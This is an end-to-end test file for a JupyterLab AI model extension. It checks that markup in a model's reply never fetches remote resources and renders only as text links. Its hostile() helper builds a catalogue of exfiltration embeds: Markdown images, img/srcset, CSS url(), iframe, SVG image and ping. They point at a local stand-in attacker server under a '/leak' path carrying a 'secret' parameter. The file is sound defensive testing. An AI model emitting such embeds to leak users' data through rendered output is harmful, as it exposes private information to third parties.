"""No remote resource is fetched from a model's text, in real JupyterLab: images and other
embeds in the model's prose (Markdown images inline and by reference, ``<img>``, ``srcset``,
``<picture>``, ``<video poster>``, CSS ``url()``, ``<link>``, ``<iframe>``, SVG ``<image>``,
...) show as links with their URLs as text, in the panel, in a ``%%ci`` answer, in an answer
inserted as a Markdown cell, after a reload and after the notebook is reopened.

A local HTTP server stands for the attacker's host and records every request it gets.
"""

from __future__ import annotations

import http.server
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from jupyter_ci.testing import Reply, ScriptedModelServer

from .chat import PANEL, ask, by_testid, open_chat, runs, set_theme, wait_run_state
from .lab import Lab, screenshot
from .notebooks import TERMINAL as NB_TERMINAL
from .notebooks import (
    cells,
    close_notebook,
    command,
    dump,
    frames,
    open_lab_app,
    open_notebook,
    panel,
    run_all,
    run_cell,
    wait_for_status,
    wait_until,
    write_notebook,
)


class _Recorder(http.server.BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        self.server.paths.append(self.path)  # type: ignore[attr-defined]
        self.send_response(200)
        self.send_header("Content-Type", "image/gif")
        self.send_header("Content-Length", "0")
        self.end_headers()

    def log_message(self, format: str, *args: Any) -> None:
        pass


@pytest.fixture
def beacon() -> Iterator[tuple[str, list[str]]]:
    """The attacker's host: its base URL and the paths it was asked for."""
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Recorder)
    server.paths = []  # type: ignore[attr-defined]
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}", server.paths  # type: ignore[attr-defined]
    finally:
        server.shutdown()
        server.server_close()


def hostile(base: str) -> tuple[str, list[str]]:
    """Prose with every kind of embed pointing at ``base``; the URLs that must show as text."""
    u = f"{base}/leak"
    markdown = [
        f"![inline]({u}/md-inline?secret=s3cr3t)",
        f'Then ![titled](<{u}/md-titled> "title") and ![by reference][r1] and ![short].',
        f"[![in a link]({u}/md-in-link)]({u}/md-outer)",
    ]
    html = [
        f'<img src="{u}/img"> <img srcset="{u}/srcset 1x, {u}/srcset2 2x">',
        f'<picture><source srcset="{u}/picture-source"><img src="{u}/picture-img"></picture>',
        f'<video poster="{u}/video-poster" src="{u}/video-src"></video>',
        f'<video><source src="{u}/video-source"></video> <audio src="{u}/audio"></audio>',
        f'<div style="background-image: url({u}/css-url)">styled</div>',
        f"<span style=\"background: url('{u}/css-bg')\">bg</span>",
        f'<link rel="stylesheet" href="{u}/link"> <link rel="preload" as="image" href="{u}/pre">',
        f'<iframe src="{u}/iframe"></iframe> <object data="{u}/object"></object>',
        f'<embed src="{u}/embed"> <input type="image" src="{u}/input">',
        f'<svg><image href="{u}/svg-image"/></svg>',
        f'<table background="{u}/table"><tr><td background="{u}/td">t</td></tr></table>',
        f"<style>@import url({u}/import); p {{ background: url({u}/style) }}</style>",
        f'<a href="{u}/a" ping="{u}/ping">a link</a> and <{u}/autolink>',
    ]
    definitions = [f"[r1]: {u}/md-ref", f"[short]: {u}/md-short"]
    text = "\n\n".join(["Here is what I found.", *markdown, *html, *definitions])
    shown = [f"{u}/md-inline?secret=s3cr3t", f"{u}/md-titled", f"{u}/md-ref", f"{u}/md-short"]
    return text, shown


def no_requests(page: Any, seen: list[str], paths: list[str], where: str) -> None:
    """Nothing of the text reached the host: neither the page's requests nor the server."""
    frames(page, 5)  # images and styles start loading by then
    assert seen == [], (where, seen)
    assert paths == [], (where, paths)


def test_model_text_fetches_nothing_anywhere(
    model_context: Any,
    model_lab: Lab,
    model: ScriptedModelServer,
    beacon: tuple[str, list[str]],
) -> None:
    base, paths = beacon
    text, shown = hostile(base)
    model.set_script([Reply.text(text), Reply.text(text)])
    path = write_notebook(model_lab, ["%load_ext jupyter_ci", "%%ci what did you find?"])
    page = model_context.new_page()
    seen: list[str] = []
    page.on("request", lambda request: seen.append(request.url) if base in request.url else None)
    open_lab_app(page, model_lab)
    open_notebook(page, path)

    # A %%ci answer, rendered under its cell (as trusted Markdown: the cell ran).
    run_all(page, path)
    assert wait_for_status(page, path, 1, NB_TERMINAL)["state"] == "done", dump(page, path)
    answer = panel(page, path).locator(".jp-Cell").nth(1).locator(".jp-RenderedMarkdown")
    answer.get_by_text("Here is what I found.").wait_for(timeout=30_000)
    no_requests(page, seen, paths, "the %%ci answer")
    for url in shown:
        assert answer.get_by_role("link", name=url).count() >= 1, url
    assert answer.locator("img, video, audio, iframe, object, embed, picture").count() == 0

    # The panel: the %%ci run's answer, then a request of the panel's.
    open_chat(page)
    before = len(runs(page).all())  # the %%ci run's block may be there: wait for the panel's own
    ask(page, "and now?")
    wait_until(lambda: len(runs(page).all()) == before + 1, 30, "the panel's run")
    assert wait_run_state(page, ("done", "failed", "stopped")) == "done"
    assistant = page.locator(f"{PANEL} [data-role='assistant']").last
    # The whole reply is rendered once the image whose definition ends it shows as a link.
    assistant.get_by_role("link", name=f"{base}/leak/md-short").wait_for(timeout=30_000)
    assistant.locator("[data-rendered='true']").wait_for(timeout=30_000)
    no_requests(page, seen, paths, "the panel")
    for url in [*shown, f"{base}/leak/img", f"{base}/leak/css-url", f"{base}/leak/video-poster"]:
        assert assistant.get_by_role("link", name=url).count() >= 1, url
    assert page.locator(f"{PANEL} img, {PANEL} video, {PANEL} iframe, {PANEL} picture").count() == 0
    assert page.locator(f"{PANEL} [style*='url']").count() == 0
    assistant.scroll_into_view_if_needed()
    screenshot(page, "inert-embeds-light")
    set_theme(page, "JupyterLab Dark")
    screenshot(page, "inert-embeds-dark")
    set_theme(page, "JupyterLab Light")

    # An answer inserted as a Markdown cell, rendered by the notebook.
    page.locator(by_testid("jupyter-ci-insert-answer")).last.click()
    wait_until(
        lambda: any(c["type"] == "markdown" for c in cells(page, path)), 30, "the Markdown cell"
    )
    index = next(i for i, c in enumerate(cells(page, path)) if c["type"] == "markdown")
    run_cell(page, path, index)  # renders the Markdown cell
    markdown_cell = panel(page, path).locator(".jp-MarkdownCell .jp-RenderedMarkdown").last
    markdown_cell.get_by_text("Here is what I found.").wait_for(timeout=30_000)
    no_requests(page, seen, paths, "the inserted Markdown cell")
    command(page, "docmanager:save")
    saved = Path(model_lab.root_dir) / path
    wait_until(
        lambda: "markdown" in saved.read_text() and "leak" in saved.read_text(), 30, "the save"
    )

    # After a reload (the panel's history from the server) and the notebook reopened.
    open_lab_app(page, model_lab)
    open_notebook(page, path)
    open_chat(page)
    page.locator(f"{PANEL} [data-role='assistant'] [data-rendered='true']").last.wait_for(
        timeout=30_000
    )
    answer = panel(page, path).locator(".jp-Cell").nth(1).locator(".jp-RenderedMarkdown")
    answer.get_by_text("Here is what I found.").wait_for(timeout=30_000)
    no_requests(page, seen, paths, "after a reload")
    close_notebook(page, path)
    open_notebook(page, path)
    answer = panel(page, path).locator(".jp-Cell").nth(1).locator(".jp-RenderedMarkdown")
    answer.get_by_text("Here is what I found.").wait_for(timeout=30_000)
    no_requests(page, seen, paths, "the notebook reopened")
    assert model_context.jupyter_ci_errors == []
